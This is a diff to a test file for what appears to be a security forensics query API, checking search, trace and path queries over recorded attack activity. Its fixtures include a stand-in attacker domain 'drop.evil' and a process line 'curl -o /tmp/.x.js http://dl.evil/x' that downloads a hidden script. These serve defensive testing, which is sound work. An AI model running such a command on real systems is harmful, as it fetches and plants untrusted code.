@@ -12,6 +12,8 @@ import { type Body, Served } from './served.ts';
 
 const SHA = 'ab'.repeat(32);
 const since = START;
+/** Of a request half a minute after the start: the id of a trace names the second in which it began. */
+const TRACE = `1-${Math.trunc(START / 1_000_000 + 30).toString(16)}-0123456789abcdef01234567`;
 
 /** Somebody who was hardly seen: what no index has. */
 function quiet() {
@@ -19,6 +21,7 @@ function quiet() {
   clock.now += 30_000_000;
   const one = new Recorded('quiet', clock);
   one.begin('req-quiet', { type: 'http', sourceIp: '198.51.100.77', userAgent: 'x', method: 'GET', path: '/admin/export' });
+  Object.assign(one.records.findLast(({ kind }) => kind === 'request-begin')!, { traceId: `Root=${TRACE};Sampled=1` });
   const tar = one.spawn(one.runtime, 70, ['tar', '--exclude=secret-word', '-cf', '/tmp/out-20260301.tar']);
   one.write(tar, '/tmp/out-20260301.tar');
   one.exchange(tar, {
@@ -157,6 +160,30 @@ describe.skipIf(!hasJava)('the query API over HTTP', () => {
       expect(results.map((one: Body) => one.kind)).toContain(kind);
     });
 
+    it.each([
+      ['an address', '203.0.113.9', request(attack.cards, 'req-plant')],
+      ['an address that a host had', '127.66.0.1', `exchange:${attack.cards.id}:req-plant:x2`],
+      ['a domain', 'drop.evil', attacker],
+      ['a URL', 'https://drop.evil/c?x=1', attacker],
+      ['a path', '/tmp/.x.js', file],
+      ['a resource', 'ddb:cards', 'resource:ddb:cards'],
+      ['a request', 'req-notify', request(attack.notify, 'req-notify')],
+      ['an instance', attack.cards.id, `instance:${attack.cards.id}`],
+      ['a trace', TRACE, request(other, 'req-quiet')],
+    ])('finds %s in the index', async (_, q, node) => {
+      const { results } = await api.get('/v1/search', { q, scan: 'never' });
+      expect(results.map((one: Body) => one.node)).toContain(node);
+    });
+
+    it('finds programs and their arguments, and nothing outside of the time range', async () => {
+      const { results } = await api.get('/v1/search', { q: 'curl', as: 'process', since, until: START + 60_000_000 });
+      expect(results.map((one: Body) => one.label)).toContain('curl -o /tmp/.x.js http://dl.evil/x (41)');
+      const over = Math.max(...results.map(({ last }: Body) => last)) + 1;
+      const late = await api.get('/v1/search', { q: 'curl', as: 'process', since: over });
+      expect(late.results).toEqual([]);
+      expect(late.scanned.since).toBe(over);
+    });
+
     it('goes on where it stopped, by the cursor alone, until all was looked through', async () => {
       const question = { q: 'drop.evil', as: 'host', since, until: START + 60_000_000 };
       const whole = await api.get('/v1/search', question);
@@ -248,6 +275,35 @@ describe.skipIf(!hasJava)('the query API over HTTP', () => {
       const { hubs, nodes } = await api.get('/v1/trace', { ...question, collapse: 'hubs', hub: 4 });
       expect(hubs.length).toBeGreaterThan(0);
       expect(ids(nodes)).toEqual(expect.arrayContaining(hubs.map((one: Body) => one.node)));
+    });
+
+    it('end when their time is over, and whatever that was, going on gives all of it', async () => {
+      const question = { node: attacker, direction: 'backward' } as const;
+      const whole = await api.get('/v1/trace', question);
+      const nodes = new Set<string>();
+      let page = await api.get('/v1/trace', { ...question, milliseconds: 1 });
+      for (let pages = 0; ; pages++) {
+        for (const id of ids(page.nodes)) nodes.add(id);
+        expect(page.cursor === undefined).toBe(page.frontier.length === 0);
+        if (page.cursor === undefined) break;
+        expect(new Set(page.frontier.map((one: Body) => one.why))).toEqual(new Set(['time']));
+        expect(pages).toBeLessThan(200);
+        page = await api.get('/v1/trace', { cursor: page.cursor, milliseconds: 20_000 });
+      }
+      expect([...nodes].sort()).toEqual(ids(whole.nodes).sort());
+    });
+
+    it('leave out paths that are longer than asked for, and say so', async () => {
+      const ends = { from: request(attack.cards, 'req-plant'), to: attacker };
+      const { paths } = await api.get('/v1/paths', ends);
+      const longest = paths[0].length;
+      const brief = await api.get('/v1/paths', { ...ends, longest });
+      expect(brief.paths.map((one: Body) => one.length)).toEqual(
+        paths.map((one: Body) => one.length).filter((n: number) => n <= longest),
+      );
+      const none = await api.get('/v1/paths', { ...ends, longest: longest - 1 });
+      expect(none.paths).toEqual([]);
+      expect(none.cut.join()).toContain('longer');
     });
 
     it('name where the time was over and go on from there', async () => {
